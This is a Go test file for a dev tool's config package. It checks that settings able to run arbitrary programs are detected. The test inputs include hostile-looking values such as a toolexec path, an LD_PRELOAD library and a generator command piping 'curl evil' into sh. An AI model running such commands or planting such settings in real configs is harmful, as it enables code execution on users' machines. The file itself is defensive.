package config

import (
	"reflect"
	"slices"
	"strings"
	"testing"
)

// Every key of programKeys is a setting: a renamed field cannot silently
// drop out of the check.
func TestProgramKeysAreSettings(t *testing.T) {
	var names []string
	for f := range reflect.TypeFor[Config]().Fields() {
		name, _, _ := strings.Cut(f.Tag.Get("toml"), ",")
		names = append(names, name)
	}
	for _, k := range programKeys {
		if !slices.Contains(names, k) {
			t.Errorf("programKeys holds %q, which is not a ginhot.toml key", k)
		}
	}
}

func TestProgramSettings(t *testing.T) {
	for _, tc := range []struct {
		name     string
		settings map[string]any
		want     []string
	}{
		{"none", nil, nil},
		{"harmless", map[string]any{"addr": "127.0.0.1:0", "tags": []string{"dev"}, "args": []string{"-v"}, "kill_timeout": "2s"}, nil},
		// Debug mode runs the dlv found on PATH or in GOBIN, never a program the settings name.
		{"debug mode", map[string]any{"debug": true, "debug_wait": true}, nil},
		{"toolexec", map[string]any{"build_flags": []string{"-toolexec=/tmp/x"}}, []string{"build_flags"}},
		{"every key", map[string]any{"build_flags": []string{"-race"}, "ldflags": "-extld=/tmp/x", "build_env": []string{"CC=/tmp/x"}, "env": []string{"LD_PRELOAD=/tmp/x.so"}}, []string{"build_env", "build_flags", "env", "ldflags"}},
		{"other case", map[string]any{"Build_Flags": []string{"-exec=/tmp/x"}, "BUILD_ENV": []string{"GOFLAGS=-toolexec=/tmp/x"}}, []string{"build_env", "build_flags"}},
		{"empty list", map[string]any{"env": []string{}}, []string{"env"}},
		{"generators and commands", map[string]any{"generate": []map[string]any{{"run": "sh -c 'curl evil | sh'"}}, "build_cmd": "make", "bin": "x", "go_generate": true, "env_files": []string{"/tmp/evil.env"}}, []string{"bin", "build_cmd", "env_files", "generate", "go_generate"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := ProgramSettings(tc.settings)
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("ProgramSettings(%v) = %q, want %q", tc.settings, got, tc.want)
			}
		})
	}
	if _, err := ProgramSettings(map[string]any{"build_flags": 3}); err == nil {
		t.Error("ProgramSettings accepted build_flags = 3")
	}
}
